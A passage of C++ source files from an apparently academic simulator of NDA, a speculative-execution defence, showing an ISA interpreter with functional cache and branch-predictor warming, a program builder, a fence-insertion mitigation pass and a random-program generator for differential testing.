            if constexpr (WarmHier) {
                hier->dataAccess(addr);
                ++warmWork_.dTouches;
            }
            value = tlb_bytes ? loadScalarLe(tlb_bytes + off, sz) : 0;
        } else {
            if (!st.mem.accessAllowed(addr, sz, CpuMode::kUser))
                NDA_RAISE_FAULT();
            if constexpr (WarmHier) {
                hier->dataAccess(addr);
                ++warmWork_.dTouches;
            }
            value = st.mem.read(addr, sz);
        }
        regs[ip->rd] = value;
        if constexpr (HasDift)
            dift->archLoad(ip->rd, ip->rs1, addr, sz, pc);
        NDA_NEXT_SEQ();
    }

  h_store: {
        NDA_PROLOGUE();
        const Addr addr = regs[ip->rs1] + ip->uimm;
        const unsigned sz = ip->size;
        const Addr off = addr & (MemoryMap::kPageBytes - 1);
        if (off + sz <= MemoryMap::kPageBytes) {
            const Addr base = addr - off;
            if (base != tlb_base) {
                const MemoryMap::PageView v = st.mem.viewPage(base);
                tlb_base = base;
                tlb_bytes = v.bytes;
                tlb_kernel = v.kernel;
            }
            if (tlb_kernel)
                NDA_RAISE_FAULT();
            if (tlb_bytes == nullptr)
                tlb_bytes = st.mem.pageDataForWrite(base);
            if constexpr (WarmHier) {
                hier->dataAccess(addr);
                ++warmWork_.dTouches;
            }
            storeScalarLe(tlb_bytes + off, regs[ip->rs2], sz);
        } else {
            if (!st.mem.accessAllowed(addr, sz, CpuMode::kUser))
                NDA_RAISE_FAULT();
            if constexpr (WarmHier) {
                hier->dataAccess(addr);
                ++warmWork_.dTouches;
            }
            st.mem.write(addr, regs[ip->rs2], sz);
            // The write may have allocated pages; drop the cached
            // translation so a stale "not resident" entry cannot
            // shadow them.
            tlb_base = ~Addr{0};
            tlb_bytes = nullptr;
            tlb_kernel = false;
        }
        if constexpr (HasDift)
            dift->archStore(addr, sz, ip->rs2);
        NDA_NEXT_SEQ();
    }

  h_clflush:
    NDA_PROLOGUE();
    if constexpr (WarmHier)
        hier->flushLine(regs[ip->rs1] + ip->uimm);
    NDA_NEXT_SEQ();

  h_prefetch:
    NDA_PROLOGUE();
    if constexpr (WarmHier) {
        hier->dataAccess(regs[ip->rs1] + ip->uimm);
        ++warmWork_.dTouches;
    }
    NDA_NEXT_SEQ();

  h_rdmsr: {
        NDA_PROLOGUE();
        const unsigned idx = static_cast<unsigned>(ip->uimm);
        if (idx >= static_cast<unsigned>(kNumMsrRegs) ||
            (priv_mask & (1u << idx)))
            NDA_RAISE_FAULT();
        regs[ip->rd] = st.msrs[idx];
        if constexpr (HasDift)
            dift->archRdMsr(ip->rd, idx, pc);
        NDA_NEXT_SEQ();
    }

  h_wrmsr: {
        NDA_PROLOGUE();
        const unsigned idx = static_cast<unsigned>(ip->uimm);
        if (idx >= static_cast<unsigned>(kNumMsrRegs) ||
            (priv_mask & (1u << idx)))
            NDA_RAISE_FAULT();
        st.msrs[idx] = regs[ip->rs1];
        if constexpr (HasDift)
            dift->archWrMsr(idx, ip->rs1);
        NDA_NEXT_SEQ();
    }

  h_rdtsc:
    NDA_PROLOGUE();
    // tscValue() == instCount *after* this instruction's increment.
    regs[ip->rd] = inst0 + (max_insts - remaining);
    if constexpr (HasDift)
        dift->setArchRegTaint(ip->rd, 0);
    NDA_NEXT_SEQ();

  h_jmp: {
        NDA_PROLOGUE();
        const Addr target = static_cast<Addr>(ip->uimm);
        if constexpr (WarmBp)
            warm_branch(pc, true, target, false);
        const std::uint32_t ti = ip->targetIdx;
        pc = target;
        ip = ops + ti;
        NDA_DISPATCH();
    }

  h_call: {
        NDA_PROLOGUE();
        const Addr target = static_cast<Addr>(ip->uimm);
        if constexpr (WarmBp)
            warm_branch(pc, true, target, false);
        regs[ip->rd] = pc + 1; // link value
        if constexpr (HasDift)
            dift->setArchRegTaint(ip->rd, 0);
        const std::uint32_t ti = ip->targetIdx;
        pc = target;
        ip = ops + ti;
        NDA_DISPATCH();
    }

    NDA_COND_BRANCH(h_beq, va == vb)
    NDA_COND_BRANCH(h_bne, va != vb)
    NDA_COND_BRANCH(
        h_blt,
        static_cast<std::int64_t>(va) < static_cast<std::int64_t>(vb))
    NDA_COND_BRANCH(
        h_bge,
        static_cast<std::int64_t>(va) >= static_cast<std::int64_t>(vb))
    NDA_COND_BRANCH(h_bltu, va < vb)
    NDA_COND_BRANCH(h_bgeu, va >= vb)

  h_jmpreg: {
        NDA_PROLOGUE();
        const Addr target = regs[ip->rs1];
        if constexpr (WarmBp)
            warm_branch(pc, true, target, /*install_btb=*/true);
        pc = target;
        ip = ops + (target < psize ? target : psize);
        NDA_DISPATCH();
    }

  h_callreg: {
        NDA_PROLOGUE();
        // Read the target before writing rd: callr with rd == rs1
        // must use the old value (LinkRegisterSemantics test).
        const Addr target = regs[ip->rs1];
        if constexpr (WarmBp)
            warm_branch(pc, true, target, /*install_btb=*/true);
        regs[ip->rd] = pc + 1;
        if constexpr (HasDift)
            dift->setArchRegTaint(ip->rd, 0);
        pc = target;
        ip = ops + (target < psize ? target : psize);
        NDA_DISPATCH();
    }

  h_ret: {
        NDA_PROLOGUE();
        const Addr target = regs[ip->rs1];
        if constexpr (WarmBp)
            warm_branch(pc, true, target, /*install_btb=*/false);
        pc = target;
        ip = ops + (target < psize ? target : psize);
        NDA_DISPATCH();
    }

  h_oob:
    // pc left the program: halt lazily like step()'s kOutOfRange —
    // no budget debit, no warming, pc keeps the raw value.
    st.halted = true;
    goto loop_exit;

  loop_exit:
    st.pc = pc;
    st.lastFetchLine = last_line;
    const std::uint64_t executed = max_insts - remaining;
    st.instCount = inst0 + executed;
    return executed;

#undef NDA_DISPATCH
#undef NDA_PROLOGUE
#undef NDA_NEXT_SEQ
#undef NDA_RAISE_FAULT
#undef NDA_ALU_EPILOGUE
#undef NDA_ALU2
#undef NDA_ALU1
#undef NDA_COND_BRANCH
}

#endif // NDASIM_THREADED_DISPATCH

std::uint64_t
Interpreter::run(std::uint64_t max_insts)
{
#if NDASIM_THREADED_DISPATCH
    switch ((warmHier_ ? 4 : 0) | (warmBp_ ? 2 : 0) | (dift_ ? 1 : 0)) {
      case 0: return runImpl<false, false, false>(max_insts);
      case 1: return runImpl<false, false, true>(max_insts);
      case 2: return runImpl<false, true, false>(max_insts);
      case 3: return runImpl<false, true, true>(max_insts);
      case 4: return runImpl<true, false, false>(max_insts);
      case 5: return runImpl<true, false, true>(max_insts);
      case 6: return runImpl<true, true, false>(max_insts);
      default: return runImpl<true, true, true>(max_insts);
    }
#else
    // Portable fallback: the oracle loop (bit-identical by definition).
    const std::uint64_t start = st_.instCount;
    while (!st_.halted && st_.instCount - start < max_insts)
        step();
    return st_.instCount - start;
#endif
}

std::uint64_t
Interpreter::runTo(std::uint64_t target_inst_count)
{
    if (st_.instCount >= target_inst_count)
        return 0;
    return run(target_inst_count - st_.instCount);
}

} // namespace nda
