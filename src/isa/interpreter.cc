#include "isa/interpreter.hh"

#include "branch/predictor_unit.hh"
#include "common/log.hh"
#include "dift/taint_engine.hh"
#include "mem/hierarchy.hh"

namespace nda {

RegVal
evalAlu(Opcode op, RegVal a, RegVal b, std::int64_t imm)
{
    const auto uimm = static_cast<RegVal>(imm);
    switch (op) {
      case Opcode::kMovImm:
        return uimm;
      case Opcode::kMov:
        return a;
      case Opcode::kAdd:
        return a + b;
      case Opcode::kSub:
        return a - b;
      case Opcode::kAnd:
        return a & b;
      case Opcode::kOr:
        return a | b;
      case Opcode::kXor:
        return a ^ b;
      case Opcode::kShl:
        return a << (b & 63);
      case Opcode::kShr:
        return a >> (b & 63);
      case Opcode::kMul:
        return a * b;
      case Opcode::kDiv:
        return b == 0 ? 0 : a / b;
      case Opcode::kAddImm:
        return a + uimm;
      case Opcode::kSubImm:
        return a - uimm;
      case Opcode::kAndImm:
        return a & uimm;
      case Opcode::kOrImm:
        return a | uimm;
      case Opcode::kXorImm:
        return a ^ uimm;
      case Opcode::kShlImm:
        return a << (uimm & 63);
      case Opcode::kShrImm:
        return a >> (uimm & 63);
      case Opcode::kMulImm:
        return a * uimm;
      case Opcode::kCmpEq:
        return a == b ? 1 : 0;
      case Opcode::kCmpLt:
        return static_cast<std::int64_t>(a) < static_cast<std::int64_t>(b)
                   ? 1 : 0;
      case Opcode::kCmpLtu:
        return a < b ? 1 : 0;
      default:
        NDA_PANIC("evalAlu called on non-ALU opcode %s",
                  opName(op).data());
    }
}

bool
evalCondBranch(Opcode op, RegVal a, RegVal b)
{
    switch (op) {
      case Opcode::kBeq:
        return a == b;
      case Opcode::kBne:
        return a != b;
      case Opcode::kBlt:
        return static_cast<std::int64_t>(a) < static_cast<std::int64_t>(b);
      case Opcode::kBge:
        return static_cast<std::int64_t>(a) >= static_cast<std::int64_t>(b);
      case Opcode::kBltu:
        return a < b;
      case Opcode::kBgeu:
        return a >= b;
      default:
        NDA_PANIC("evalCondBranch on non-branch opcode %s",
                  opName(op).data());
    }
}

Addr
evalNextPc(const MicroOp &uop, Addr pc, RegVal a, RegVal b)
{
    const OpTraits &t = uop.traits();
    if (!t.isBranch)
        return pc + 1;
    if (t.isIndirect)
        return static_cast<Addr>(a);
    if (t.isCondBranch) {
        return evalCondBranch(uop.op, a, b) ? static_cast<Addr>(uop.imm)
                                            : pc + 1;
    }
    return static_cast<Addr>(uop.imm); // direct jmp / call
}

void
loadDataSegments(const Program &prog, MemoryMap &mem)
{
    for (const DataSegment &seg : prog.data) {
        mem.writeBytes(seg.base, seg.bytes.data(), seg.bytes.size());
        mem.setPerm(seg.base, seg.bytes.size(), seg.perm);
    }
}

Interpreter::Interpreter(Program prog)
    : prog_(std::move(prog))
{
    st_.reset(prog_);
}

ArchState
Interpreter::save() const
{
    ArchState snap = st_;
    if (dift_)
        snap.captureTaint(*dift_);
    return snap;
}

void
Interpreter::restore(const ArchState &snap)
{
    st_ = snap;
    if (dift_)
        snap.applyTaint(*dift_);
}

StepResult
Interpreter::step()
{
    if (st_.halted)
        return StepResult::kHalted;
    if (!prog_.validPc(st_.pc)) {
        st_.halted = true;
        return StepResult::kOutOfRange;
    }

    // Functional i-cache warming: the timing front ends access the
    // i-cache once per fetched line, so warm on line crossings only.
    if (warmHier_) {
        const Addr fetch_addr = pcToFetchAddr(st_.pc);
        const Addr line = fetch_addr / kLineSize;
        if (line != st_.lastFetchLine) {
            warmHier_->instAccess(fetch_addr);
            st_.lastFetchLine = line;
        }
    }

    const MicroOp &uop = prog_.at(st_.pc);
    const OpTraits &t = uop.traits();
    const RegVal a = t.readsRs1 ? st_.regs[uop.rs1] : 0;
    const RegVal b = t.readsRs2 ? st_.regs[uop.rs2] : 0;
    ++st_.instCount;

    auto raise_fault = [&]() -> StepResult {
        ++st_.faultCount;
        if (prog_.faultHandler == ~Addr{0}) {
            st_.halted = true;
            return StepResult::kFaulted;
        }
        st_.pc = prog_.faultHandler;
        return StepResult::kFaulted;
    };

    switch (uop.op) {
      case Opcode::kNop:
      case Opcode::kFence:
      case Opcode::kSpecOff:
      case Opcode::kSpecOn:
        break;
      case Opcode::kClflush:
        if (warmHier_)
            warmHier_->flushLine(a + static_cast<Addr>(uop.imm));
        break;
      case Opcode::kPrefetch:
        if (warmHier_)
            warmHier_->dataAccess(a + static_cast<Addr>(uop.imm));
        break;
      case Opcode::kHalt:
        st_.halted = true;
        return StepResult::kHalted;
      case Opcode::kLoad: {
        const Addr addr = a + static_cast<Addr>(uop.imm);
        if (!st_.mem.accessAllowed(addr, uop.size, CpuMode::kUser))
            return raise_fault();
        if (warmHier_)
            warmHier_->dataAccess(addr);
        st_.regs[uop.rd] = st_.mem.read(addr, uop.size);
        if (dift_)
            dift_->archLoad(uop.rd, uop.rs1, addr, uop.size, st_.pc);
        break;
      }
      case Opcode::kStore: {
        const Addr addr = a + static_cast<Addr>(uop.imm);
        if (!st_.mem.accessAllowed(addr, uop.size, CpuMode::kUser))
            return raise_fault();
        if (warmHier_)
            warmHier_->dataAccess(addr);
        st_.mem.write(addr, b, uop.size);
        if (dift_)
            dift_->archStore(addr, uop.size, uop.rs2);
        break;
      }
      case Opcode::kRdMsr: {
        const unsigned idx = static_cast<unsigned>(uop.imm);
        if (prog_.privilegedMsrMask & (1u << idx))
            return raise_fault();
        st_.regs[uop.rd] = st_.msrs[idx];
        if (dift_)
            dift_->archRdMsr(uop.rd, idx, st_.pc);
        break;
      }
      case Opcode::kWrMsr: {
        const unsigned idx = static_cast<unsigned>(uop.imm);
        if (prog_.privilegedMsrMask & (1u << idx))
            return raise_fault();
        st_.msrs[idx] = a;
        if (dift_)
            dift_->archWrMsr(idx, uop.rs1);
        break;
      }
      case Opcode::kRdTsc:
        st_.regs[uop.rd] = tscValue();
        if (dift_)
            dift_->setArchRegTaint(uop.rd, 0);
        break;
      default:
        if (t.isBranch) {
            // Functional predictor warming, following the timing
            // cores' correct-path update rules: predict (touches BTB
            // LRU / speculative history / RAS), recover + re-steer on
            // a mispredict, install the indirect target at execution,
            // train direction tables at commit.
            const Addr actual = evalNextPc(uop, st_.pc, a, b);
            if (warmBp_) {
                const bool taken =
                    t.isCondBranch ? evalCondBranch(uop.op, a, b) : true;
                const BranchPrediction pred =
                    warmBp_->predict(uop, st_.pc);
                if (t.isIndirect && !t.isReturn)
                    warmBp_->btbUpdate(st_.pc, actual);
                if (pred.nextPc != actual) {
                    warmBp_->restore(pred.ckpt);
                    warmBp_->applyResolved(uop, st_.pc, taken, actual);
                }
                warmBp_->commitUpdate(uop, st_.pc, taken,
                                      pred.ckpt.history);
            }
            if (t.hasDest) {
                st_.regs[uop.rd] = st_.pc + 1; // link value (call/callr)
                if (dift_)
                    dift_->setArchRegTaint(uop.rd, 0);
            }
            st_.pc = actual;
            return StepResult::kOk;
        }
        st_.regs[uop.rd] = evalAlu(uop.op, a, b, uop.imm);
        if (dift_)
            dift_->archAlu(uop);
        break;
    }

    st_.pc = st_.pc + 1;
    return StepResult::kOk;
}

std::uint64_t
Interpreter::run(std::uint64_t max_insts)
{
    const std::uint64_t start = st_.instCount;
    while (!st_.halted && st_.instCount - start < max_insts)
        step();
    return st_.instCount - start;
}

} // namespace nda
