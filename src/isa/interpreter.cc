#include "isa/interpreter.hh"

#include "common/log.hh"
#include "dift/taint_engine.hh"

namespace nda {

RegVal
evalAlu(Opcode op, RegVal a, RegVal b, std::int64_t imm)
{
    const auto uimm = static_cast<RegVal>(imm);
    switch (op) {
      case Opcode::kMovImm:
        return uimm;
      case Opcode::kMov:
        return a;
      case Opcode::kAdd:
        return a + b;
      case Opcode::kSub:
        return a - b;
      case Opcode::kAnd:
        return a & b;
      case Opcode::kOr:
        return a | b;
      case Opcode::kXor:
        return a ^ b;
      case Opcode::kShl:
        return a << (b & 63);
      case Opcode::kShr:
        return a >> (b & 63);
      case Opcode::kMul:
        return a * b;
      case Opcode::kDiv:
        return b == 0 ? 0 : a / b;
      case Opcode::kAddImm:
        return a + uimm;
      case Opcode::kSubImm:
        return a - uimm;
      case Opcode::kAndImm:
        return a & uimm;
      case Opcode::kOrImm:
        return a | uimm;
      case Opcode::kXorImm:
        return a ^ uimm;
      case Opcode::kShlImm:
        return a << (uimm & 63);
      case Opcode::kShrImm:
        return a >> (uimm & 63);
      case Opcode::kMulImm:
        return a * uimm;
      case Opcode::kCmpEq:
        return a == b ? 1 : 0;
      case Opcode::kCmpLt:
        return static_cast<std::int64_t>(a) < static_cast<std::int64_t>(b)
                   ? 1 : 0;
      case Opcode::kCmpLtu:
        return a < b ? 1 : 0;
      default:
        NDA_PANIC("evalAlu called on non-ALU opcode %s",
                  opName(op).data());
    }
}

bool
evalCondBranch(Opcode op, RegVal a, RegVal b)
{
    switch (op) {
      case Opcode::kBeq:
        return a == b;
      case Opcode::kBne:
        return a != b;
      case Opcode::kBlt:
        return static_cast<std::int64_t>(a) < static_cast<std::int64_t>(b);
      case Opcode::kBge:
        return static_cast<std::int64_t>(a) >= static_cast<std::int64_t>(b);
      case Opcode::kBltu:
        return a < b;
      case Opcode::kBgeu:
        return a >= b;
      default:
        NDA_PANIC("evalCondBranch on non-branch opcode %s",
                  opName(op).data());
    }
}

Addr
evalNextPc(const MicroOp &uop, Addr pc, RegVal a, RegVal b)
{
    const OpTraits &t = uop.traits();
    if (!t.isBranch)
        return pc + 1;
    if (t.isIndirect)
        return static_cast<Addr>(a);
    if (t.isCondBranch) {
        return evalCondBranch(uop.op, a, b) ? static_cast<Addr>(uop.imm)
                                            : pc + 1;
    }
    return static_cast<Addr>(uop.imm); // direct jmp / call
}

void
loadDataSegments(const Program &prog, MemoryMap &mem)
{
    for (const DataSegment &seg : prog.data) {
        mem.writeBytes(seg.base, seg.bytes.data(), seg.bytes.size());
        mem.setPerm(seg.base, seg.bytes.size(), seg.perm);
    }
}

Interpreter::Interpreter(Program prog)
    : prog_(std::move(prog)), pc_(prog_.entry)
{
    loadDataSegments(prog_, mem_);
    for (int i = 0; i < kNumArchRegs; ++i)
        regs_[i] = prog_.initialRegs[i];
    for (int i = 0; i < kNumMsrRegs; ++i)
        msrs_[i] = prog_.initialMsrs[i];
}

StepResult
Interpreter::step()
{
    if (halted_)
        return StepResult::kHalted;
    if (!prog_.validPc(pc_)) {
        halted_ = true;
        return StepResult::kOutOfRange;
    }

    const MicroOp &uop = prog_.at(pc_);
    const OpTraits &t = uop.traits();
    const RegVal a = t.readsRs1 ? regs_[uop.rs1] : 0;
    const RegVal b = t.readsRs2 ? regs_[uop.rs2] : 0;
    ++instCount_;

    auto raise_fault = [&]() -> StepResult {
        ++faultCount_;
        if (prog_.faultHandler == ~Addr{0}) {
            halted_ = true;
            return StepResult::kFaulted;
        }
        pc_ = prog_.faultHandler;
        return StepResult::kFaulted;
    };

    switch (uop.op) {
      case Opcode::kNop:
      case Opcode::kFence:
      case Opcode::kSpecOff:
      case Opcode::kSpecOn:
      case Opcode::kClflush:
      case Opcode::kPrefetch:
        break;
      case Opcode::kHalt:
        halted_ = true;
        return StepResult::kHalted;
      case Opcode::kLoad: {
        const Addr addr = a + static_cast<Addr>(uop.imm);
        if (!mem_.accessAllowed(addr, uop.size, CpuMode::kUser))
            return raise_fault();
        regs_[uop.rd] = mem_.read(addr, uop.size);
        if (dift_)
            dift_->archLoad(uop.rd, uop.rs1, addr, uop.size, pc_);
        break;
      }
      case Opcode::kStore: {
        const Addr addr = a + static_cast<Addr>(uop.imm);
        if (!mem_.accessAllowed(addr, uop.size, CpuMode::kUser))
            return raise_fault();
        mem_.write(addr, b, uop.size);
        if (dift_)
            dift_->archStore(addr, uop.size, uop.rs2);
        break;
      }
      case Opcode::kRdMsr: {
        const unsigned idx = static_cast<unsigned>(uop.imm);
        if (prog_.privilegedMsrMask & (1u << idx))
            return raise_fault();
        regs_[uop.rd] = msrs_[idx];
        if (dift_)
            dift_->archRdMsr(uop.rd, idx, pc_);
        break;
      }
      case Opcode::kWrMsr: {
        const unsigned idx = static_cast<unsigned>(uop.imm);
        if (prog_.privilegedMsrMask & (1u << idx))
            return raise_fault();
        msrs_[idx] = a;
        if (dift_)
            dift_->archWrMsr(idx, uop.rs1);
        break;
      }
      case Opcode::kRdTsc:
        regs_[uop.rd] = tscValue();
        if (dift_)
            dift_->setArchRegTaint(uop.rd, 0);
        break;
      default:
        if (t.isBranch) {
            if (t.hasDest) {
                regs_[uop.rd] = pc_ + 1; // link value for call/callr
                if (dift_)
                    dift_->setArchRegTaint(uop.rd, 0);
            }
            pc_ = evalNextPc(uop, pc_, a, b);
            return StepResult::kOk;
        }
        regs_[uop.rd] = evalAlu(uop.op, a, b, uop.imm);
        if (dift_)
            dift_->archAlu(uop);
        break;
    }

    pc_ = pc_ + 1;
    return StepResult::kOk;
}

std::uint64_t
Interpreter::run(std::uint64_t max_insts)
{
    const std::uint64_t start = instCount_;
    while (!halted_ && instCount_ - start < max_insts)
        step();
    return instCount_ - start;
}

} // namespace nda
