/**
 * @file
 * Static program representation and a small assembler-style builder.
 *
 * A Program bundles the instruction stream (PC = instruction index),
 * an initial data-memory image with page permissions, initial register
 * values, and an optional fault-handler PC (used by chosen-code attack
 * PoCs that catch the Meltdown-style fault, paper Listing 2).
 */

#ifndef NDASIM_ISA_PROGRAM_HH
#define NDASIM_ISA_PROGRAM_HH

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "common/types.hh"
#include "isa/microop.hh"

namespace nda {

/** One initialized span of data memory. */
struct DataSegment {
    Addr base = 0;
    std::vector<std::uint8_t> bytes;
    MemPerm perm = MemPerm::kUser;
};

/** A complete executable image for the simulator. */
struct Program {
    std::string name;
    std::vector<MicroOp> code;
    std::vector<DataSegment> data;
    RegVal initialRegs[kNumArchRegs] = {};
    RegVal initialMsrs[kNumMsrRegs] = {};
    /** MSR indices that fault when read from user mode. */
    std::uint8_t privilegedMsrMask = 0;
    Addr entry = 0;
    /** Entry PC for SMT hardware thread 1+ (co-resident context);
     *  ~0 = threads beyond 0 start at `entry` (homogeneous co-run). */
    Addr smtEntry = ~Addr{0};
    /** PC to redirect to on a committed fault; ~0 = halt on fault. */
    Addr faultHandler = ~Addr{0};

    std::size_t size() const { return code.size(); }

    const MicroOp &
    at(Addr pc) const
    {
        return code[static_cast<std::size_t>(pc)];
    }

    bool
    validPc(Addr pc) const
    {
        return static_cast<std::size_t>(pc) < code.size();
    }
};

/**
 * Fluent builder for Programs with forward-referencable labels.
 *
 * Usage:
 *   ProgramBuilder b("demo");
 *   b.movi(1, 0);
 *   auto loop = b.label();
 *   b.addi(1, 1, 1).blt(1, 2, loop);
 *   Program p = b.build();
 */
class ProgramBuilder
{
  public:
    /** Opaque label handle; resolves to an instruction index. */
    struct Label {
        int id = -1;
        bool valid() const { return id >= 0; }
    };

    explicit ProgramBuilder(std::string name);

    /** Create a label bound to the *next* emitted instruction. */
    Label label();

    /** Create an unbound label to place later with `bind`. */
    Label futureLabel();

    /** Bind a future label to the next emitted instruction. */
    void bind(Label l);

    /** Current instruction index (== next emitted PC). */
    Addr here() const { return prog_.code.size(); }

    // --- raw emission ---------------------------------------------------
    ProgramBuilder &emit(const MicroOp &uop);

    /** Pad with nops so the next instruction lands at `pc` exactly
     *  (used to place BTB-aliasing branches). */
    ProgramBuilder &padToPc(Addr pc);

    // --- convenience emitters (one per opcode) --------------------------
    ProgramBuilder &nop();
    ProgramBuilder &halt();
    ProgramBuilder &movi(RegId rd, std::int64_t imm);
    ProgramBuilder &mov(RegId rd, RegId rs1);
    ProgramBuilder &add(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &sub(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &and_(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &or_(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &xor_(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &shl(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &shr(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &mul(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &div(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &addi(RegId rd, RegId rs1, std::int64_t imm);
    ProgramBuilder &subi(RegId rd, RegId rs1, std::int64_t imm);
    ProgramBuilder &andi(RegId rd, RegId rs1, std::int64_t imm);
    ProgramBuilder &ori(RegId rd, RegId rs1, std::int64_t imm);
    ProgramBuilder &xori(RegId rd, RegId rs1, std::int64_t imm);
    ProgramBuilder &shli(RegId rd, RegId rs1, std::int64_t imm);
    ProgramBuilder &shri(RegId rd, RegId rs1, std::int64_t imm);
    ProgramBuilder &muli(RegId rd, RegId rs1, std::int64_t imm);
    ProgramBuilder &cmpeq(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &cmplt(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &cmpltu(RegId rd, RegId rs1, RegId rs2);
    ProgramBuilder &load(RegId rd, RegId rs1, std::int64_t disp,
                         std::uint8_t size = 8);
    ProgramBuilder &store(RegId rs1, std::int64_t disp, RegId rs2,
                          std::uint8_t size = 8);
    ProgramBuilder &clflush(RegId rs1, std::int64_t disp = 0);
    ProgramBuilder &prefetch(RegId rs1, std::int64_t disp = 0);
    ProgramBuilder &rdmsr(RegId rd, unsigned msr);
    ProgramBuilder &wrmsr(unsigned msr, RegId rs1);
    ProgramBuilder &rdtsc(RegId rd);
    ProgramBuilder &fence();
    /** Paper SS8 Listing 4: stop/resume control speculation. */
    ProgramBuilder &specoff();
    ProgramBuilder &specon();
    ProgramBuilder &jmp(Label target);
    ProgramBuilder &call(RegId rd, Label target);
    ProgramBuilder &beq(RegId rs1, RegId rs2, Label target);
    ProgramBuilder &bne(RegId rs1, RegId rs2, Label target);
    ProgramBuilder &blt(RegId rs1, RegId rs2, Label target);
    ProgramBuilder &bge(RegId rs1, RegId rs2, Label target);
    ProgramBuilder &bltu(RegId rs1, RegId rs2, Label target);
    ProgramBuilder &bgeu(RegId rs1, RegId rs2, Label target);
    ProgramBuilder &jmpr(RegId rs1);
    ProgramBuilder &callr(RegId rd, RegId rs1);
    ProgramBuilder &ret(RegId rs1);

    // --- data / environment ---------------------------------------------
    /** Add an initialized data segment. */
    ProgramBuilder &segment(Addr base, std::vector<std::uint8_t> bytes,
                            MemPerm perm = MemPerm::kUser);

    /** Add a zero-filled data segment. */
    ProgramBuilder &zeroSegment(Addr base, std::size_t len,
                                MemPerm perm = MemPerm::kUser);

    /** Store a little-endian 64-bit word into a (new) 8-byte segment. */
    ProgramBuilder &word(Addr base, std::uint64_t value,
                         MemPerm perm = MemPerm::kUser);

    ProgramBuilder &initReg(RegId r, RegVal v);
    ProgramBuilder &initMsr(unsigned msr, RegVal v, bool privileged);
    ProgramBuilder &faultHandlerAt(Label l);

    /** Resolve all labels and produce the Program. */
    Program build();

  private:
    ProgramBuilder &emitBranch(Opcode op, RegId rd, RegId rs1, RegId rs2,
                               Label target);

    Program prog_;
    /** label id -> bound instruction index (-1 while unbound). */
    std::vector<std::int64_t> labelPcs_;
    /** instruction index -> label id to patch into imm. */
    std::map<std::size_t, int> fixups_;
    int pendingFaultHandler_ = -1;
};

} // namespace nda

#endif // NDASIM_ISA_PROGRAM_HH
