/**
 * @file
 * Program transformation passes. The headline pass models the
 * software mitigation the paper's §3.2 discusses: inserting an
 * lfence-style barrier after every conditional branch, which stops
 * Spectre-v1-style steering at a large performance cost (the paper
 * cites 68-247% for comparable compiler approaches) — the software
 * baseline NDA's hardware approach is measured against.
 */

#ifndef NDASIM_ISA_TRANSFORM_HH
#define NDASIM_ISA_TRANSFORM_HH

#include "isa/program.hh"

namespace nda {

/** Pass statistics. */
struct TransformStats {
    std::size_t fencesInserted = 0;
    std::size_t branchesPatched = 0;
};

/**
 * Insert a FENCE after every conditional branch (on the fall-through
 * path) and at every conditional-branch target, so no instruction
 * issues under an unresolved conditional branch — the
 * "lfence-everywhere" software mitigation. All branch targets and the
 * fault handler are remapped to the new layout.
 */
Program insertFencesAfterBranches(const Program &prog,
                                  TransformStats *stats = nullptr);

} // namespace nda

#endif // NDASIM_ISA_TRANSFORM_HH
