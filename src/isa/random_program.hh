/**
 * @file
 * Random-program generator for differential testing. Generated
 * programs are guaranteed to terminate (forward branches and counted
 * loops only), exercise every ALU opcode, loads/stores with
 * forwarding and aliasing, direct and indirect calls, and finish by
 * spilling all data registers to a result area so final architectural
 * state can be compared across core models.
 */

#ifndef NDASIM_ISA_RANDOM_PROGRAM_HH
#define NDASIM_ISA_RANDOM_PROGRAM_HH

#include <cstdint>

#include "isa/program.hh"

namespace nda {

/** Generation knobs. All extras default off, and a disabled extra
 *  draws nothing from the RNG, so existing (seed, params) pairs keep
 *  producing bit-identical instruction streams. */
struct RandomProgramParams {
    unsigned blocks = 12;        ///< straight-line blocks
    unsigned opsPerBlock = 8;    ///< random ops per block
    unsigned loopIterations = 5; ///< trip count of counted loops
    unsigned functions = 3;      ///< callable leaf functions
    bool useMemory = true;
    bool useIndirectCalls = true;
    bool useFences = false;      ///< sprinkle FENCE barriers
    bool useClflush = false;     ///< sprinkle CLFLUSH of data addresses
    /** Sprinkle RDTSC reads. Timing is model-specific, so each RDTSC
     *  result is immediately neutralized (rd = (rd == rd), i.e. 1)
     *  before it can reach comparable architectural state. */
    bool useRdtsc = false;
    /** Depth of a RAS-heavy nested direct-call chain reachable from
     *  the main body (0 = none; clamped to 4). */
    unsigned callChainDepth = 0;
};

/** Where generated programs spill r0-r17 before halting. */
inline constexpr Addr kRandomProgResultBase = 0x7000000;

/** Data segment the random memory ops target. */
inline constexpr Addr kRandomProgDataBase = 0x7100000;
inline constexpr unsigned kRandomProgDataBytes = 4096;

/** Generate a deterministic random program for `seed`. */
Program generateRandomProgram(std::uint64_t seed,
                              const RandomProgramParams &params = {});

} // namespace nda

#endif // NDASIM_ISA_RANDOM_PROGRAM_HH
