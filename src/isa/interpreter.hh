/**
 * @file
 * Architectural reference interpreter and shared functional semantics.
 *
 * The interpreter defines the ISA's architectural behaviour and serves
 * as the oracle for differential testing: every core model (in-order,
 * OoO, any NDA/InvisiSpec configuration) must produce the same final
 * architectural state, since NDA only changes *timing*.
 *
 * It runs directly on a shared ArchState (core/arch_state.hh), so its
 * complete state can be saved and restored bit-exactly, and it
 * optionally performs *functional warming* (SMARTS, paper §6.1):
 * per retired instruction it touches an attached cache hierarchy and
 * trains an attached predictor unit following the same update rules
 * as the timing cores' correct path, so a fast-forwarded checkpoint
 * starts a detailed window with warm micro-architectural state.
 */

#ifndef NDASIM_ISA_INTERPRETER_HH
#define NDASIM_ISA_INTERPRETER_HH

#include <cstdint>

#include "common/types.hh"
#include "core/arch_state.hh"
#include "isa/predecode.hh"
#include "isa/program.hh"
#include "mem/memory_map.hh"

namespace nda {

class TaintEngine;
class MemHierarchy;
class PredictorUnit;

/**
 * Functional-warming work performed by an interpreter over its
 * lifetime: the cost drivers of a fast-forward phase. Not part of
